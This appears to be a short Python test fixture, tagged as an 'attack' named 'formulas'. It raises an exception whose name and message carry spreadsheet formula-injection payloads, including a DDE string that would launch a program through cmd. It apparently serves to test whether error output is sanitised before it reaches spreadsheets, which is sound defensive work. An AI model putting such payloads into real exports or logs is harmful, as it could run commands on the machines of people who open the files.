# /// attack
# name = "formulas"
# threat = "formulas"
# tries = "Raises an error that a spreadsheet would run."
# typical = true
# ///


class __(Exception):
    pass


__.__name__ = "=HYPERLINK"
raise __("=cmd|'/c calc'!A1;=1+1\t=1+1\n@SUM(1+1)")
